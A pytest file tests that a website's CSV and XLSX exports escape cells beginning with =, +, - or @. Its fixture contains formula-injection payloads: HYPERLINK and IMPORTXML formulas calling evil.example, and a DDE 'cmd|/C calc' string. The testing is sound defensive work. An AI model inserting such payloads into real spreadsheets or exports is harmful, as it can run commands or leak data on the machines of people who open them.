"""Every CSV the site writes goes through one writer, which makes formula-like cells safe.

One build of a payload fixture (names and titles that start like spreadsheet formulas, as a
stranger's pull request could write them, all valid data) and one check over every CSV file it
writes: the open data, the summary tables, the chart data, each "Download this table" file and
each change's CSV in the changelog.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from macros.figures.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from tests.conftest import FIXTURES, PROJECT, build
from tests.data_repo import git

PAYLOADS = {
    "organisations.yml": [("  name: Test District Council",
                           "  name: '=HYPERLINK(\"https://evil.example/\",\"Council\")'"),
                          ("  name: Testshire Police", "  name: '+cmd|'' /C calc''!A0'")],
    "areas.yml": [("  name: Test Community Safety Partnership\n  kind",
                   "  name: '-2+3 Partnership'\n  kind")],
    "priorities.yml": [("  name: Criminal Exploitation", "  name: '@SUM(1+1)*cmd'")],
    "funded-projects/test.yml": [("  title: County Lines theatre production", "  title: '=1+1'")],
    "campaigns.yml": [("  name: Test Awareness Week", "  name: '=IMPORTXML(\"https://evil.example\",\"//a\")'")],
    "funding-pots.yml": [("  name: Core funding", "  name: '-Core funding'")],
    "statistics.yml": [("  metric: Staff trained in Prevent", "  metric: '@Staff trained'")],
    "actions/test.yml": [("  activity: Deliver training to frontline staff",
                          "  activity: '=Deliver training'")],
}


def unsafe(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[-+]?[0-9]+(\.[0-9]+)?", cell)


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+44 cmd", "'+44 cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "-5"), ("+1.5", "+1.5"), (-5, "-5"), ("plain", "plain"),
    (None, ""), (True, "true"), ("'=already", "'=already"),
])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written
    [[read]] = list(csv.reader(io.StringIO(csv_text([[value]])))) or [[""]]
    assert read == written


BROWSER_CASES = ["=1+1", "+44 cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-5", "+1.5", "plain",
                 "'=already", 'say "hi", twice', "a\nb"]


def test_every_csv_the_browser_makes_escapes_cells_as_safe_cell_does():
    """A script that offers a CSV carries a csvCell function; run it in Node on the same cells."""
    scripts = [s for s in (PROJECT / "overrides").rglob("*.js")
               if re.search(r"text/csv|new Blob", s.read_text(encoding="utf-8"))]
    assert scripts, "the funding explorer offers its shown rows as CSV"
    for script in scripts:
        text = script.read_text(encoding="utf-8")
        function = re.search(r"function csvCell\(text\) \{.*?\n    \}", text, re.S)
        assert function, f"{script}: a browser CSV must write cells through csvCell"
        program = function.group(0) + "\nprocess.stdout.write(JSON.stringify(" \
            + json.dumps(BROWSER_CASES) + ".map(csvCell)));"
        run = subprocess.run(["node", "-e", program], capture_output=True, text=True, timeout=30)
        assert run.returncode == 0, run.stderr
        expected = [csv_text([[value]]).removesuffix("\r\n") for value in BROWSER_CASES]
        assert json.loads(run.stdout) == expected, script


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("payload")
    data = root / "data"
    shutil.copytree(FIXTURES / "minimal" / "data", data)
    git(root, "init", "-q", "-b", "main")  # a history, so the changelog's CSVs carry payloads too
    git(root, "add", "data")
    git(root, "commit", "-q", "-m", "Start", date="2023-07-01T09:00:00+01:00")
    for file, edits in PAYLOADS.items():
        path = data / file
        text = path.read_text(encoding="utf-8")
        for old, new in edits:
            assert old in text, (file, old)
            text = text.replace(old, new, 1)
        path.write_text(text, encoding="utf-8")
    git(root, "commit", "-q", "-am", "Payloads", date="2023-08-01T09:00:00+01:00")
    site = root / "site"
    run = build(data, site)
    assert run.returncode == 0, run.stdout + run.stderr
    return site


def test_no_csv_of_a_payload_build_holds_a_cell_that_would_run(payload_site: Path):
    files = sorted(payload_site.rglob("*.csv"))
    kinds = {"open data": [f for f in files if f.parent.name == "data"],
             "summary tables": [f for f in files if f.parent.name == "tables"],
             "chart data": [f for f in files if f.parent.name == "charts"],
             "table downloads": [f for f in files if f.name.startswith("table-")],
             "change CSVs": [f for f in files if f.parent.parts[-2:] == ("changes", "csv")]}
    assert all(kinds.values()), {k: len(v) for k, v in kinds.items()}
    found, escaped = [], 0
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                if unsafe(cell):
                    found.append(f"{path.relative_to(payload_site)}: {cell[:40]!r}")
                escaped += cell.startswith(("'=", "'+", "'-", "'@"))
    assert found == []
    assert escaped >= len(PAYLOADS), "the payloads reached the CSV files, escaped"
    for kind in ("summary tables", "table downloads", "open data", "change CSVs"):
        text = "".join(p.read_text(encoding="utf-8") for p in kinds[kind])
        assert "'=" in text or "'@" in text or "'-" in text, f"no payload reached the {kind}"


def test_no_cell_of_the_payload_build_s_workbook_is_a_formula(payload_site: Path):
    """The one-file XLSX download holds the same payloads: each cell stays words, never a formula
    (openpyxl reads a cell that would run as data type 'f')."""
    from openpyxl import load_workbook

    book = load_workbook(payload_site / "data" / "all-records.xlsx")
    formulas, words = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {str(cell.value)[:40]!r}")
                words += isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@"))
    assert formulas == []
    assert words >= 1, "the payloads reached the workbook, as words"
